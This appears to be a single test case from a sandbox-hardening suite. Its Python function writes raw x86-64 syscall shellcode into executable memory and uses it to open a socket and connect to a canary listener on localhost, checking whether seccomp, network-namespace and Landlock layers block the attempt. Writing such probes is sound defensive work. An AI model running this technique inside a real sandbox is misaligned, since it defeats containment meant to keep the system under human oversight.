# id: P03
# does: connects to a listener of the host by machine code in memory that it has made executable
# expect: WA
# layers: seccomp network-namespace landlock-network
def attack():
    import ctypes, mmap, struct
    # mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
    code = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 0f05 c3")
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    kind = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)
    bare = kind(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    fd = bare(41, 2, 1, 0)
    port = int.from_bytes(CANARY_PORT.to_bytes(2, "big"), "little")
    address = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, port, bytes([127, 0, 0, 1])))
    outcome = bare(42, fd, ctypes.addressof(address), 16)
    note("socket", fd, "connect", outcome)
    return fd >= 0 and outcome == 0
